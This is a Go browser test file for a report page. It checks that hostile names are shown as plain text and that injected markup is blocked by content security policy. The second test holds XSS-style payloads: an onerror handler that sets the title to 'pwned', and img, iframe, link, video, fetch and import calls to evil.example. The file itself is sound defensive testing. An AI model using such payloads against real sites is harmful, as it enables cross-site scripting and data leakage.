package page

import (
	"fmt"
	"strings"
	"testing"

	"github.com/chromedp/chromedp"

	"github.com/goalpost-dev/goalpost/engine/audit/sample"
	"github.com/goalpost-dev/goalpost/engine/diag"
	"github.com/goalpost-dev/goalpost/engine/wording"
)

// A name that means harm is read as it is written, wherever it occurs and
// whatever the reader does.
func TestHostileNamesAreOnlyNames(t *testing.T) {
	r := sample.Report()
	name := wording.Escape(sample.Hostile)
	for i := range r.Biographies {
		r.Biographies[i].Address, r.Biographies[i].Plan = sample.Hostile, sample.Hostile
	}
	r.Parameters.Revision, r.Parameters.Paths = sample.Hostile, []string{sample.Hostile}
	r.Tool, r.RuleSet, r.Incomplete = sample.Hostile, sample.Hostile, diag.Text{En: sample.Hostile}
	b := open(t, render(t, r, diag.English), 1200, 900)
	for _, lang := range []string{"vi", "en"} {
		b.run(chromedp.Click(chromedp.CSS("#lang-" + lang)))
		for _, choice := range [][2]string{{"rule", "custom/hostile"}, {"team", name}, {"status", "open"}, {"severity", "warning"}, {"from", "2027-01-01"}, {"to", "2027-11-01"}} {
			b.choose(choice[0], choice[1])
			b.run(chromedp.Evaluate[chromedp.Void](openAll))
			b.want("#biographies > li", 1)
			b.want("script, img, iframe, object, embed, form[action], a[href]:not([href^='#'])", 0)
			if got := evaluate[string](b, `document.title`); strings.Contains(got, "pwned") {
				t.Fatalf("%s, %v: a name has run", lang, choice)
			}
		}
		for _, selector := range []string{"#biographies .message", "#teams tbody th", "#moves h3 span", ".explanation p:last-child", "#filter-team option:checked"} {
			if got := evaluate[bool](b, fmt.Sprintf(`[...document.querySelectorAll(%q)].some((e) => e.textContent.trim() === %q)`, selector, name)); !got {
				t.Errorf("%s: no %s reads as the name is written", lang, selector)
			}
		}
		b.run(chromedp.Click(chromedp.CSS(".filters button")))
	}
	b.quiet()
}

// Even markup that came into the page could neither run nor fetch anything.
func TestMarkupFromOutsideIsPowerless(t *testing.T) {
	b := open(t, render(t, sample.Clean(), diag.English), 1200, 900)
	for _, tc := range []struct{ markup, directive string }{
		{`<img src="http://evil.example/x">`, "img-src"},
		{`<img src="data:," onerror="document.title = 'pwned'">`, "script-src-attr"},
		{`<p style="background: url(http://evil.example/x)">`, "style-src-attr"},
		{`<iframe src="http://evil.example/x"></iframe>`, "frame-src"},
		{`<link rel="stylesheet" href="http://evil.example/x">`, "style-src-elem"},
		{`<video src="http://evil.example/x"></video>`, "media-src"},
	} {
		got := evaluate[string](b, fmt.Sprintf(`new Promise((resolve) => {
			addEventListener('securitypolicyviolation', (e) => resolve(e.effectiveDirective), { once: true });
			document.querySelector('footer').insertAdjacentHTML('beforeend', %q);
		})`, tc.markup))
		if got != tc.directive {
			t.Errorf("%s is stopped by %s, want %s", tc.markup, got, tc.directive)
		}
	}
	for _, script := range []string{`fetch('http://evil.example/x')`, `import('http://evil.example/x')`} {
		if got := evaluate[string](b, script+`.then(() => 'came', () => 'stopped')`); got != "stopped" {
			t.Errorf("%s %s", script, got)
		}
	}
	if got := evaluate[string](b, `document.title`); got != "Audit of marketing plans" {
		t.Errorf("markup has run: %s", got)
	}
}
